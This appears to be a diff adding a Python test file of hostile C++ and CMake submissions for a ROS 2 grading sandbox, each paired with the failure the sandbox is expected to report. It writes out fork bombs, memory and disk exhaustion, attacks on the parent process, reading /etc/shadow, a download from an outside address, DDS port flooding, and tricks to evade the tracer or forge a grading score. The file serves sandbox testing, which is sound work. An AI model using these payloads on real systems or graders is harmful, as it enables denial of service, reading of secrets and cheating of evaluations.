@@ -1,0 +1,198 @@
+"""Hostile submissions in C++: what needs no interpreter, or gets by the tracer in another way."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from tests.attacks.attack import ALIVE, HOLDER, Attack
+from tests.attacks.submissions import compiled_node
+
+_BOMB = """\
+while (true) {
+  if (fork() == 0) {
+    setsid();
+  }
+}
+"""
+_SHARED_MEMORY = """\
+const size_t size = 3UL << 30;
+char * shared = static_cast<char *>(
+  mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0));
+for (size_t place = 0; place < size; place += 4096) {
+  shared[place] = 1;
+}
+"""
+_OUTPUT = """\
+static char block[1 << 18];
+memset(block, 'x', sizeof(block));
+while (write(1, block, sizeof(block)) > 0) {
+}
+"""
+_DEAF = "for (int number : {SIGINT, SIGTERM, SIGHUP}) {signal(number, SIG_IGN);}\n"
+_ENDLESS = f"""{_DEAF}
+volatile bool forever = true;
+std::thread([&] {{while (forever) {{}}}}).detach();
+while (forever) {{
+}}
+"""
+_DAEMON = f"""\
+if (fork() == 0) {{
+  setsid();
+  if (fork() == 0) {{
+    {_DEAF}
+    execlp("sleep", "sleep", "86397", nullptr);
+  }}
+  _exit(0);
+}}
+"""
+_FORGED = """\
+dprintf(atoi(getenv("ROSGRADE_TRACER_FD")), "{\\"kind\\": \\"points\\", \\"pid\\": 1}\\n");
+"""
+_TIMER = 'create_wall_timer(100, [this] {tick();}, "BotPublisher::tick()");'
+_FORGED_TIMER = """\
+dprintf(
+  atoi(getenv("ROSGRADE_TRACER_FD")),
+  "{\\"kind\\": \\"timer\\", \\"pid\\": %d, \\"period_s\\": 0.1, \\"callback\\": \\"tick\\"}\\n",
+  getpid());
+std::thread(
+  [this] {
+    while (!interrupted) {
+      tick();
+      usleep(100000);
+    }
+  }).detach();
+"""
+# The library of the tracer comes first, and may stand alone.
+_ANEW = """\
+if (getenv("ANEW") == nullptr) {
+  setenv("ANEW", "", 1);
+  const std::string preloaded = getenv("LD_PRELOAD");
+  const size_t tracer = preloaded.find(':');
+  setenv("LD_PRELOAD", tracer == preloaded.npos ? "" : &preloaded[tracer + 1], 1);
+  execv("/proc/self/exe", argv);
+}
+"""
+_SCRIPT = """\
+#!/bin/sh
+LD_PRELOAD=${LD_PRELOAD#*:} exec "$0.hidden" "$@"
+"""
+_INSTALL_SCRIPT = """\
+install(PROGRAMS start.sh DESTINATION lib/${PROJECT_NAME} RENAME bot_pub)
+cmake_language(DEFER CALL set_target_properties bot_pub PROPERTIES OUTPUT_NAME bot_pub.hidden)
+"""
+_DEEP = """\
+#include <dlfcn.h>
+#include <rcl/publisher.h>
+#include <tracetools/tracetools.h>
+
+template<class Function>
+Function * hidden(const char * name)
+{
+  return reinterpret_cast<Function *>(
+    dlsym(dlopen("librcl.so", RTLD_NOW | RTLD_DEEPBIND), name));
+}
+
+#define rcl_publisher_init hidden<decltype(rcl_publisher_init)>("rcl_publisher_init")
+"""
+_PROBE = """\
+const pid_t parent = getppid();
+const std::string folder = "/proc/" + std::to_string(parent);
+for (const char * file : {"/mem", "/environ", "/fd/3"}) {
+  fprintf(stderr, "%s: %s\\n", file, open((folder + file).c_str(), O_RDWR) < 0 ? "no" : "opened");
+}
+process_vm_writev(parent, nullptr, 0, nullptr, 0, 0);
+"""
+_GARBAGE = """\
+char packet[200] = "RTPS";
+const int udp = socket(AF_INET, SOCK_DGRAM, 0);
+for (uint16_t port : {7400, 7401, 7410, 7411, 7412, 7413}) {
+  sockaddr_in to{};
+  to.sin_family = AF_INET;
+  to.sin_port = htons(port);
+  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  for (int number = 0; number < 200; ++number) {
+    packet[20 + number % 100] = static_cast<char>(number);
+    sendto(udp, packet, sizeof(packet), 0, reinterpret_cast<sockaddr *>(&to), sizeof(to));
+  }
+}
+"""
+_COMMANDS = """\
+execute_process(COMMAND touch /etc/planted RESULT_VARIABLE unwritten)
+execute_process(COMMAND cat /etc/shadow RESULT_VARIABLE unread)
+file(DOWNLOAD http://192.0.2.1/ ${CMAKE_BINARY_DIR}/got STATUS status TIMEOUT 5)
+list(GET status 0 unreached)
+if(unwritten AND unread AND unreached)
+  message(FATAL_ERROR "nothing was reached")
+endif()
+"""
+
+
+def compiled(attack: str = "", **more: Any) -> Attack:
+    """A submission in C++."""
+    return Attack(attack, compiled=True, **more)
+
+
+def ended(attack: str, *named: str) -> Attack:
+    """One that ends the node, or for which it is ended."""
+    return compiled(attack, lost=ALIVE, named=named)
+
+
+def unbuilt(*named: str, **more: Any) -> Attack:
+    """One that keeps the package from being built."""
+    return compiled(lost=frozenset({"builds"}), named=named, **more)
+
+
+def unseen(**more: Any) -> Attack:
+    """One that hides its publisher from the tracer."""
+    named = ("the process did not declare the publisher",)
+    return compiled(lost=frozenset({"timer"}), named=named, **more)
+
+
+RIGHT = compiled()
+COMPILED = {
+    "cpp_fork_bomb": ended(_BOMB, "sessions"),
+    "cpp_heap": ended("while (true) {new char[1 << 24];}", "std::bad_alloc"),
+    "cpp_shared_memory": ended(_SHARED_MEMORY, "MiB of memory"),
+    "cpp_endless_output": ended(_OUTPUT, "MiB of output"),
+    "cpp_endless_loop": ended(_ENDLESS, "s of CPU time, 3 s are allowed"),
+    "cpp_ignores_signals": compiled(
+        _DEAF + "while (true) {\n  tick();\n  usleep(100000);\n}",
+        lost=frozenset({"ends"}),
+        named=("SIGKILL",),
+    ),
+    "cpp_daemon": compiled(_DAEMON, lost=frozenset({"ends"}), named=("86397",)),
+    "cpp_kills_the_probe": ended("kill(getppid(), SIGKILL);", f"sent SIGKILL to {HOLDER}"),
+    "cpp_attacks_the_probe": ended(
+        _PROBE,
+        *("/mem: no", "/environ: no", "/fd/3: no"),
+        f"called `process_vm_writev` on {HOLDER}",
+    ),
+    "cpp_another_domain": compiled(
+        at_import='setenv("ROS_DOMAIN_ID", "5", 1);',
+        lost=frozenset({"starts"}),
+        named=("joined ROS domain 5",),
+    ),
+    "cpp_garbage_on_dds_ports": ended(_GARBAGE, "sent garbage to the UDP ports"),
+    "cpp_forged_tracer": ended(_FORGED, "wrote into the channel"),
+    "cpp_declares_a_timer_beside_a_thread": compiled(
+        files={"src/bot_pub.cpp": compiled_node().replace(_TIMER, _FORGED_TIMER)},
+        lost=frozenset({"timer"}),
+        named=("outside of every callback",),
+    ),
+    "cpp_closes_all_descriptors": unseen(at_import="close_range(3, ~0U, 0);"),
+    "cpp_starts_anew_without_the_tracer": unseen(at_import=_ANEW),
+    "cpp_is_started_by_a_script": unseen(at_build=_INSTALL_SCRIPT, files={"start.sh": _SCRIPT}),
+    "cpp_calls_rcl_past_the_tracer": unseen(files={"src/before.hpp": _DEEP}),
+    "cpp_build_runs_commands": unbuilt("nothing was reached", at_build=_COMMANDS),
+    "cpp_build_fork_bomb": unbuilt(
+        "it started 64 processes",
+        at_build="execute_process(COMMAND sh -c [[b() { b & b & wait; }; b]])",
+    ),
+    "cpp_build_memory": unbuilt(
+        "memory", files={"src/before.hpp": '#include "/dev/zero"'}
+    ),
+    "cpp_build_disk": unbuilt(
+        "File size limit exceeded",
+        files={"src/before.hpp": "static char wide[1 << 30] = {1};\nchar * used = wide;"},
+    ),
+}
